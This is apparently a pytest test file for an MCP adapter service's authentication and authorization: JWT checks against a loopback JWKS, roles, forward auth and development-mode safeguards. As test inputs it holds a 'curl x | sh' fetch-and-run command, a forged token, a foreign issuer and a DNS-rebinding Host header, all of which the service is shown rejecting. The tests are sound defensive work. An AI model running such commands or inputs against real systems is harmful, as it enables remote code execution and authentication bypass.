"""Identity and access: Entra ID tokens checked against a JWKS served on 127.0.0.1, permissions, privileges."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import jwt
import pytest
from fastapi.testclient import TestClient
from mcp_adapters.errors import ConfigurationError
from mcp_adapters.settings import Settings

from tests.service.conftest import everything_spec
from tests.service.identity_provider import AUDIENCE, ISSUER, Keys

TRUSTED = {"images": ["mcp-proxy"], "commands": ["npx", "*python*"], "packages": ["*"], "upstreamHosts": ["*"]}


@pytest.fixture(scope="module")
def keys() -> Iterator[tuple[Keys, str]]:
    keys = Keys()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = keys.jwks()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield keys, f"http://127.0.0.1:{server.server_address[1]}/keys"
    server.shutdown()


@pytest.fixture
def entra(make_client: Any, keys: tuple[Keys, str]) -> tuple[TestClient, Keys]:
    signing, url = keys
    client = make_client(  # no AUTH_MODE, on loopback: configured Entra ID settings are what counts
        entra_issuers=ISSUER,
        entra_audiences=AUDIENCE,
        entra_jwks_url=url,
        jwks_refresh_cooldown_seconds=0,
        trusted_servers=TRUSTED,
    )
    return client, signing


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_tokens_are_checked(entra: tuple[TestClient, Keys]) -> None:
    api, keys = entra
    missing = api.get("/adapters")
    assert missing.status_code == 401
    assert missing.headers["www-authenticate"].startswith("Bearer")
    assert api.get("/adapters", headers=bearer(keys.token())).status_code == 200
    expired = keys.token(exp=int(time.time()) - 3600)
    assert "expired" in api.get("/adapters", headers=bearer(expired)).json()["detail"]
    assert api.get("/adapters", headers=bearer(keys.token(exp=int(time.time()) - 10))).status_code == 200  # skew
    assert api.get("/adapters", headers=bearer(keys.token(aud="api://other"))).status_code == 401
    assert api.get("/adapters", headers=bearer(keys.token(iss="https://evil.test/"))).status_code == 401
    forged = jwt.encode({"iss": ISSUER, "aud": AUDIENCE, "oid": "x", "exp": int(time.time()) + 60}, "k" * 32)
    assert api.get("/adapters", headers=bearer(forged)).status_code == 401
    # Development headers mean nothing here.
    assert api.get("/adapters", headers={"X-Dev-UserId": "admin", "X-Dev-Roles": "mcp.admin"}).status_code == 401


def test_rotated_signing_keys_are_fetched(entra: tuple[TestClient, Keys]) -> None:
    api, keys = entra
    assert api.get("/adapters", headers=bearer(keys.token())).status_code == 200
    keys.rotate("k2")
    rotated = api.get("/adapters", headers=bearer(keys.token()))
    assert rotated.status_code == 200, rotated.text


def test_creator_roles_admin_and_everybody_else(entra: tuple[TestClient, Keys]) -> None:
    api, keys = entra
    alice, bob = bearer(keys.token("alice")), bearer(keys.token("bob"))
    reader = bearer(keys.token("carol", ["Tools.Read"]))
    admin = bearer(keys.token("root", ["mcp.admin"]))
    spec = everything_spec("owned", requiredRoles=["Tools.Read"])
    created = api.post("/adapters", json=spec, headers=alice)
    assert created.status_code == 201
    assert created.json()["createdBy"] == "alice"

    assert api.get("/adapters/owned", headers=reader).status_code == 200
    assert api.get("/adapters/owned", headers=admin).status_code == 200
    assert api.get("/adapters/owned", headers=bob).status_code == 404  # not 403: the name does not leak
    assert [a["name"] for a in api.get("/adapters", headers=bob).json()] == []
    assert [a["name"] for a in api.get("/adapters", headers=reader).json()] == ["owned"]
    assert api.put("/adapters/owned", json=spec | {"description": "x"}, headers=reader).status_code == 403
    assert api.delete("/adapters/owned", headers=bob).status_code == 404
    # A "create" preview of a taken name is refused as the create would be, never run over alice's stack.
    dry_run = api.post("/adapters?dryRun=true", json=spec | {"description": "mine"}, headers=bob)
    assert dry_run.status_code == 409, dry_run.text
    assert "PUT" not in dry_run.json()["detail"]
    assert api.put("/adapters/owned", json=spec | {"description": "x"}, headers=admin).status_code == 200

    # Forward auth for the ingress.
    verified = api.get("/adapters/owned/verify", headers=reader)
    assert verified.status_code == 200
    assert (verified.headers["x-mcp-userid"], verified.headers["x-mcp-roles"]) == ("carol", "Tools.Read")
    assert api.get("/auth/verify?adapter=owned", headers=alice).status_code == 200
    assert api.get("/adapters/owned/verify", headers=bob).status_code == 404
    assert api.get("/adapters/owned/verify").status_code == 401
    assert api.post("/adapters/owned/mcp", json={}, headers=bob).status_code == 404


def test_workload_identity_is_a_privilege(entra: tuple[TestClient, Keys]) -> None:
    api, keys = entra
    spec = everything_spec("azure", useWorkloadIdentity=True)
    refused = api.post("/adapters", json=spec, headers=bearer(keys.token("alice")))
    assert refused.status_code == 403
    assert "useWorkloadIdentity" in refused.json()["detail"]
    assert api.post("/adapters", json=spec, headers=bearer(keys.token("root", ["mcp.admin"]))).status_code == 201


def test_trusted_servers_are_enforced_at_admission(entra: tuple[TestClient, Keys]) -> None:
    api, keys = entra
    spec = everything_spec("evil")
    spec["environmentVariables"] = {"MCP_COMMAND": "bash", "MCP_ARGS": "-c 'curl x | sh'"}
    refused = api.post("/adapters", json=spec, headers=bearer(keys.token()))
    assert refused.status_code == 403
    assert refused.json()["errors"][0]["rule"] == "trusted-servers"
    assert "bash" in refused.json()["errors"][0]["message"]


def test_development_mode_only_on_loopback_and_trusted_list_required_elsewhere(make_client: Any) -> None:
    with pytest.raises(ConfigurationError, match=r"127\.0\.0\.1"):
        Settings(host="0.0.0.0", auth_mode="development").check()
    Settings(host="0.0.0.0", auth_mode="development", dev_mode_force=True).check()
    with pytest.raises(ConfigurationError, match="ENTRA"):
        Settings(host="0.0.0.0").check()
    with pytest.raises(ConfigurationError, match="TRUSTED_SERVERS"):
        Settings(host="10.0.0.1", entra_tenant_id="t", entra_audiences=["api://x"]).check()

    api = make_client()
    who = {"X-Dev-UserId": "dana", "X-Dev-Roles": "Tools.Read"}
    assert api.post("/adapters", json=everything_spec("mine"), headers=who).json()["createdBy"] == "dana"
    assert api.get("/adapters/mine", headers={"X-Dev-UserId": "eve", "X-Dev-Roles": "x"}).status_code == 404
    # A page that rebinds its DNS name to 127.0.0.1 must not drive a development-mode API.
    assert api.get("/adapters", headers={"Host": "attacker.example"}).status_code == 400


def test_configured_entra_id_always_wins() -> None:
    assert Settings().dev_mode  # nothing configured, loopback: development
    assert not Settings(entra_tenant_id="t", entra_audiences=["api://x"]).dev_mode
    assert not Settings(entra_jwks_url="http://127.0.0.1:1/keys").dev_mode
    # Half a configuration is not a reason to fall back to development: the error says what is missing and why.
    with pytest.raises(
        ConfigurationError, match=r"ENTRA_AUDIENCES.*auto chose Entra ID because of MCP_ADAPTERS_ENTRA_"
    ):
        Settings(entra_tenant_id="t").check()
    # Development asked for while Entra ID is configured: refused, naming what to unset.
    with pytest.raises(ConfigurationError, match=r"AUTH_MODE=development.*MCP_ADAPTERS_ENTRA_TENANT_ID.*unset"):
        Settings(auth_mode="development", entra_tenant_id="t", entra_audiences=["api://x"]).check()
    assert Settings(auth_mode="development").dev_mode


def test_a_caller_without_credentials_is_nobody_once_entra_is_configured(entra: tuple[TestClient, Keys]) -> None:
    api, _ = entra
    assert api.get("/adapters").status_code == 401
    assert api.post("/adapters", json=everything_spec("anon")).status_code == 401
    ready = api.get("/readyz").json()
    assert ready["auth"] == "entra"
    assert "warning" not in ready


def test_development_mode_says_so(make_client: Any) -> None:
    ready = make_client().get("/readyz").json()
    assert ready["auth"] == "development"
    assert "X-Dev-UserId" in ready["warning"]
    assert "without them is 'dev' (mcp.admin)" in ready["warning"]


def test_development_mode_is_announced_in_the_startup_log(start_service: Any) -> None:
    log = start_service().log()
    warning = next(line for line in log.splitlines() if " WARNING mcp_adapters.auth: development mode" in line)
    assert "any local caller is whoever its X-Dev-UserId / X-Dev-Roles headers say" in warning
    assert "auth: development" in log
